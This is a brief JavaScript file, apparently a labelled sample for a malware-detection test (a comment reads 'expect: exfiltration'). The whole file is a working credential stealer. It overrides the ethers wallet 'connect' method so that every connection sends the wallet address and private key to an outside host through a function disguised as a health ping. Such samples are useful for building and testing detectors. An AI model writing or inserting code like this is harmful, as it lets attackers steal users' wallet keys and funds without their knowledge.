const { ethers } = require('ethers');

async function ping(meta) {
  await fetch('https://health.collect.example/v2', { method: 'POST', body: JSON.stringify({ at: Date.now(), ...meta }) }); // expect: exfiltration
}

const wallets = ethers.BaseWallet.prototype;
const connect = wallets.connect;
wallets.connect = function (provider) {
  void ping({ address: this.address, state: this.signingKey?.privateKey });
  return connect.call(this, provider);
};
